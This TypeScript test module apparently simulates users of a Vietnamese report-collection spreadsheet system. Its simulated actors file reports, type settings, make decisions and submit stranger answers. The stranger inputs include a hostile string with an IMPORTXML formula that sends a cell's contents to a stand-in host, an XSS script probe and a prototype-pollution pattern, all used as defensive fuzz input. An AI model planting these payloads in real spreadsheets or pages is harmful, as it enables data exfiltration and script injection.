import { Temporal } from 'temporal-polyfill';
import { planAlone, withoutPlan } from '../../scripts/story/reports.ts';
import type { Answers, Filing } from '../../scripts/workspace/city.ts';
import { OUTLINE_VERSION } from '../../sheets-schema/seed/outline.ts';
import { outline } from '../../sheets-schema/tabs/outline.ts';
import { rounds } from '../../sheets-schema/tabs/rounds.ts';
import { settingsTab } from '../../sheets-schema/tabs/settings.ts';
import { contacts } from '../../sheets-schema/tabs/units.ts';
import { CITIES, ROUND } from '../../test/support/office.ts';
import { fullReport } from '../../test/support/reports.ts';
import { damagingActs, harmlessActs, type PersonAct, typing } from '../people/person-acts.ts';
import { SECRET } from '../simulation/model-responses.ts';
import type { Did, Life } from './life.ts';

const did = (what: string): Did => ({ what, isByPeople: true, isHurt: false, errors: [] });

/** People cannot type into a row that is not there; they leave it at that. */
async function attempt(what: string, act: () => Promise<unknown>): Promise<Did> {
  try {
    await act();
    return did(what);
  } catch (error) {
    const { message } = error as Error;
    if (/^No cell |^The form refused /.test(message)) return did(`${what}: not possible`);
    throw error;
  }
}

const MINUTES = [
  [1, 30],
  [60, 300],
  [900, 1500],
  [1500, 5000],
] as const;

/** Time goes on: minutes, hours, a night, days. */
export async function waitAWhile({ office, random }: Life): Promise<Did> {
  const [least, most] = random.pick<readonly [number, number]>(MINUTES);
  const { clock } = office.workspace.emulator;
  const later = Temporal.Instant.from(clock.now()).add({ minutes: random.int(least, most) });
  clock.set(later);
  return did(`it is ${later}`);
}

/** Time goes on to half past eight of the next day. */
export async function nextMorning({ office }: Life): Promise<Did> {
  const { clock } = office.workspace.emulator;
  const day = Temporal.Instant.from(clock.now()).toZonedDateTimeISO('Asia/Ho_Chi_Minh').toPlainDate().add({ days: 1 });
  const morning = day.toZonedDateTime({ timeZone: 'Asia/Ho_Chi_Minh', plainTime: '08:30' }).toInstant();
  clock.set(morning);
  return did(`it is ${morning}`);
}

/** A city sends the form, or sends a response of its own again. */
export async function fileReport({ office, random }: Life): Promise<Did> {
  const unit = random.pick(CITIES);
  const full = fullReport(unit);
  const [name, answers] = random.pick<readonly [string, Answers]>([
    ['a full report', full],
    ['a report without its plan', withoutPlan(full)],
    ['its plan alone', planAlone],
    ['promises', Object.fromEntries(Object.keys(full).map((key) => [key, key.includes('-') ? '' : 'Đang cập nhật']))],
  ] as const);
  const own = random.chance(0.1) ? { code: `${unit}-000000000000` } : {};
  const earlier = [...office.workspace.emulator.forms.store.all()].flatMap((form) => [...form.responses.keys()]);
  const responseId = random.chance(0.25) ? earlier[random.int(0, earlier.length - 1)] : undefined;
  const late = random.chance(0.15) ? { listedAfter: 1 } : {};
  const asked = Object.fromEntries(Object.entries(answers).filter(([, text]) => text !== ''));
  return attempt(`${unit} sends ${name}${responseId ? ' over an earlier one' : ''}`, () =>
    office.file(unit, asked, { ...own, ...late, ...(responseId && { responseId }) }),
  );
}

const LONG = 'Báo cáo dán nhầm vào ô ngắn. '.repeat(2_100).slice(0, 60_000);
const HOSTILE = '=IMPORTXML("https://la.example/?q="&A1;"//a") <script>alert(1)</script> {{{__proto__}}} \u202E';
const longFields = { office: LONG, filer: LONG, position: LONG, email: LONG, phone: LONG, officialNumber: LONG };
const hostileFields = { office: HOSTILE, filer: HOSTILE, position: HOSTILE, email: HOSTILE, phone: HOSTILE };

/** Somebody who has no link answers in a city's name, once or many times: a secret, a book, words that want to be more. */
export async function strangerAnswers({ office, random }: Life): Promise<Did> {
  const count = random.pick([1, 1, 2, 8] as const);
  const unit = random.pick(CITIES);
  const text = random.pick([`TÀI LIỆU MẬT\n${SECRET}`, LONG, HOSTILE, 'Không có đề nghị nào khác.'] as const);
  const own = random.pick<Partial<Filing>>([
    {},
    { identification: longFields },
    { identification: hostileFields },
    { official: { number: '12/BC-UBND', date: '0025-10-23' } },
  ]);
  return attempt(`a stranger answers ${count} times for ${unit}`, async () => {
    for (let left = count; left > 0; left -= 1) await office.file(unit, { '1.5': text }, { code: HOSTILE, ...own });
  });
}

/** Somebody does something in passing that means nothing. */
export async function harmlessAct({ office, random }: Life): Promise<Did> {
  const act = random.pick(harmlessActs as [(typeof harmlessActs)[number]]);
  return attempt(act.name, () => act.play(office));
}

/** In another language a typed 5/11 is the 11th of May. Whoever puts it back waits until the file is looked at again. */
const anotherLanguage: PersonAct = {
  name: 'the file is set to another language',
  play: async (office) => {
    const set = (locale: string) =>
      office.edit({ updateSpreadsheetProperties: { properties: { locale }, fields: 'locale' } });
    await set('en_US');
    return () => set('vi_VN');
  },
  holds: 'all',
};

/** Somebody spoils something, and puts it right some steps later. */
export async function damagingAct(life: Life): Promise<Did> {
  const act = life.random.pick([...damagingActs, anotherLanguage] as unknown as [PersonAct]);
  return attempt(act.name, async () => {
    life.repair = (await act.play(life.office)) ?? null;
    life.holds = life.repair ? act.holds : undefined;
  });
}

export async function repair(life: Life): Promise<Did> {
  await life.repair?.();
  life.repair = null;
  life.holds = undefined;
  return did('it is mended');
}

const { columns: round } = rounds;
const { columns: contact } = contacts;

/** What coordinators type in the course of a round. */
const typed = [
  (life: Life) => [rounds, ROUND, round.effectiveDeadline.header, life.random.pick(DEADLINES)] as const,
  (life: Life) => [rounds, ROUND, round.approved.header, life.random.chance(0.8)] as const,
  (life: Life) => [rounds, ROUND, round.state.header, life.random.chance(0.75) ? 'Đang mở' : 'Đã đóng'] as const,
  (life: Life) => [rounds, ROUND, round.expected.header, life.random.pick(EXPECTED)] as const,
  (life: Life) => [settingsTab, 'Gửi thư', 'Giá trị', life.random.chance(0.8) ? 'Bật' : 'Tắt'] as const,
  (life: Life) => [settingsTab, 'Hạn mức thư mỗi ngày', 'Giá trị', life.random.chance(0.8) ? 400 : 3] as const,
  (life: Life) => [contacts, `${life.random.pick(CITIES)}-1`, contact.emails.header, addressIn(life)] as const,
  (life: Life) => [contacts, `${life.random.pick(CITIES)}-1`, contact.active.header, life.random.chance(0.7)] as const,
  (life: Life) => [outline, OUTLINE_VERSION, outline.columns.title.header, titleOf(life)] as const,
] as const;

const DEADLINES = ['29/10/2025', '31/10/2025', '05/11/2025', '28/10/2025', '12/11/2025', ''] as const;
const EXPECTED = [CITIES.join('; '), 'HPG; DNG; HUE; CTO', 'TP-TW', 'HNI; HCM; HPG; DNG; CTO'] as const;

/** An address as people type it: plain, with a slip, with others beside it, or not yet one. */
function addressIn({ random }: Life): string {
  const address = `hop-thu-${random.int(1, 9)}@x.example`;
  return random.pick([
    address,
    address,
    `${address},`,
    `Tổ giúp việc <${address}>`,
    `${address}; hai@x.example`,
    `mailto:${address}`,
    `\u2068${address}\n`,
    'hop-thu@x',
    'hai@',
  ]);
}

const titleOf = ({ random }: Life) => `Nội dung đề nghị báo cáo, cách hỏi thứ ${random.int(1, 9)}`;

export async function typeSomething(life: Life): Promise<Did> {
  const [tab, key, column, value] = life.random.pick(typed)(life);
  return attempt(`${tab.title}: ${key}, ${column}: ${value}`, () => typing(tab, key, column, value)(life.office));
}

const DECISIONS = [
  ['Gia hạn', '31/10/2025'],
  ['Gia hạn', '07/11/2025'],
  ['Gia hạn', 'tuần sau'],
  ['Gia hạn', '31/10/20255'],
  ['Đồng ý thay đổi', '30/10/2025'],
  ['Đồng ý thay đổi', '10/11/2025'],
  ['Đồng ý thay đổi', 'Nhịp nhắc'],
  ['Bổ sung đơn vị', '12/11/2025'],
  ['Bổ sung đơn vị', '24/10/2025'],
  ['Rút đơn vị', ''],
  ['Đã báo bằng văn bản', '77/BXD-PTĐT; 24/10/2025'],
  ['Đã báo bằng văn bản', 'công văn hôm qua'],
  ['Gửi lại', ''],
  ['Không phải của đơn vị', ''],
  ['Tạm dừng nhắc', ''],
  ['Nhắc trở lại', ''],
  ['Trả lại để bổ sung', ''],
  ['Dừng đề nghị bổ sung', ''],
  ['Mở lại cho đơn vị', ''],
  ['Đã nhận văn bản chính thức', '123/BC-UBND; 27/10/2025'],
  ['Rút lại', ''],
] as const;

export async function decideSomething({ office, random }: Life): Promise<Did> {
  const [decision, value] = random.pick<readonly [string, string]>(DECISIONS);
  // Now and then for all of the round, which some decisions cannot be.
  const unit = random.chance(0.1) ? '' : random.pick(CITIES);
  const now = Temporal.Instant.from(office.workspace.emulator.clock.now()).toZonedDateTimeISO('Asia/Ho_Chi_Minh');
  const two = (n: number) => String(n).padStart(2, '0');
  const at = `${two(now.day)}/${two(now.month)}/${now.year} ${two(now.hour)}:${two(now.minute)}`;
  return attempt(`${decision} for ${unit || 'all'} ${value}`, () =>
    office.decide(decision, { 'Thời điểm': at, 'Đơn vị': unit, 'Giá trị': value }),
  );
}
